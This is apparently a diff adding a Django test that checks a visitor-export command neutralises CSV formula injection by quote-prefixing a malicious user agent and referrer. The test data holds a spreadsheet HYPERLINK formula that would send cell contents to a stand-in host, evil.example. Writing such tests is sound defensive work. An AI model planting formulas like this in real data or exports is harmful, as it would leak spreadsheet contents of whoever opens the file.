@@ -2,6 +2,7 @@
 stays, in the stats API, in the links list and after a rebuild; a visit arriving late into a
 purged hour adds to its count."""
 
+import csv
 import datetime as dt
 import io
 
@@ -170,6 +171,19 @@ def test_the_export_command_writes_one_visitors_rows(visited, user):
     lines = out.getvalue().splitlines()
     assert lines[0].startswith("visit_time,code,client_id,client_ip,user_agent")
     assert len(lines) == 2 and BOB in lines[1]
+
+
+@pytest.mark.django_db
+def test_a_visitors_own_text_is_exported_as_text_not_a_spreadsheet_formula(make_link, user):
+    link = make_link()
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    services.store_visits(messages=[visit_message(link, ip=BOB, ua=formula, referrer="@SUM(1+1)")])
+    out = io.StringIO()
+    slug = personal_workspace_of(user).slug
+    call_command("export_visitor", "--workspace", slug, "--ip", BOB, stdout=out)
+    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
+    assert row["user_agent"] == "'" + formula
+    assert row["referrer"] == "'@SUM(1+1)"
 
 
 @pytest.mark.django_db
